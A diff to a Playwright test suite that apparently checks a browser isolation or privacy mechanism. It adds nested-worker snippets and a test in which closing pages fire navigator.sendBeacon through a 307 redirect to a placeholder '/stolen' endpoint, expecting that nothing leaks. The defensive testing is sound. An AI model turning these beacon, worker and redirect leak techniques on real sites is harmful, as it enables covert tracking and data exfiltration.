@@ -41,6 +41,8 @@ const INSIDE: Record<string, string> = {
   'speculation rules': `const rules = document.createElement('script'); rules.type = 'speculationrules'; rules.text = '{"prefetch":[{"source":"list","urls":["OWN/stolen"]}],"prerender":[{"source":"list","urls":["OWN/stolen"]}]}'; document.head.append(rules)`,
   'worker that imports': `await new Promise((resolve) => { const worker = new Worker(URL.createObjectURL(new Blob(["try { importScripts('OWN/stolen') } catch {} postMessage(0)"]))); worker.onmessage = worker.onerror = resolve })`,
   'worker that fetches': `await new Promise((resolve) => { const worker = new Worker(URL.createObjectURL(new Blob(["fetch('OWN/stolen', { mode: 'no-cors' }).catch(() => 0).then(() => postMessage(0))"]))); worker.onmessage = worker.onerror = resolve })`,
+  'worker in a worker': `await new Promise((resolve) => { const worker = new Worker(URL.createObjectURL(new Blob(["try { new Worker('OWN/stolen') } catch {} postMessage(0)"]))); worker.onmessage = worker.onerror = resolve })`,
+  'worker in a worker, redirected': `await new Promise((resolve) => { const worker = new Worker(URL.createObjectURL(new Blob(["new Worker(origin + '/redirect?to=' + encodeURIComponent('OWN/stolen')).onerror = () => postMessage(0)"]))); worker.onmessage = worker.onerror = resolve })`,
   'shared worker': `new SharedWorker(URL.createObjectURL(new Blob(["fetch('OWN/stolen', { mode: 'no-cors' })"])))`,
   frame: `document.body.insertAdjacentHTML('beforeend', '<iframe src="OWN/stolen"></iframe>')`,
   'frame without referrer': `document.body.insertAdjacentHTML('beforeend', '<iframe referrerpolicy=no-referrer src="OWN/stolen"></iframe>')`,
@@ -282,6 +284,36 @@ test('gives no access to a page that the test leaves for the server', async ({ n
   await attack(page, ATTACKS['what it does when it is left'] ?? '', own);
   await attack(page, ATTACKS['what it does when it is left'] ?? '', second);
   await page.goto(`${own.url}/page?html=after`);
+  expect(await stolen(context, own, second)).toEqual([]);
+});
+
+test('gives no access to a page that the test closes, nor to its frames', async ({
+  newContext,
+  own,
+  second,
+  foreign,
+}) => {
+  const context = await newContext();
+  await (await context.newPage()).goto(own.url);
+  const framed = `<iframe src="${pageUrl(foreign, NO_REFERRER)}"></iframe>`;
+  for (const start of [
+    pageUrl(foreign, ''),
+    pageUrl(foreign, NO_REFERRER),
+    `${own.url}/page?html=${encodeURIComponent(framed)}`,
+  ]) {
+    for (const runBeforeUnload of [false, true]) {
+      const page = await context.newPage();
+      await page.goto(start);
+      await page.mouse.click(5, 5);
+      const frame = page.frames().at(-1) ?? page;
+      for (const server of [own, second]) {
+        await attack(frame, ATTACKS['what it does when it is left'] ?? '', server);
+        const redirecting = `/redirect?status=307&to=${encodeURIComponent(`${server.url}/stolen`)}`;
+        await attack(frame, `addEventListener('pagehide', () => { navigator.sendBeacon('${redirecting}', 'x') })`, own);
+      }
+      await page.close({ runBeforeUnload });
+    }
+  }
   expect(await stolen(context, own, second)).toEqual([]);
 });
 
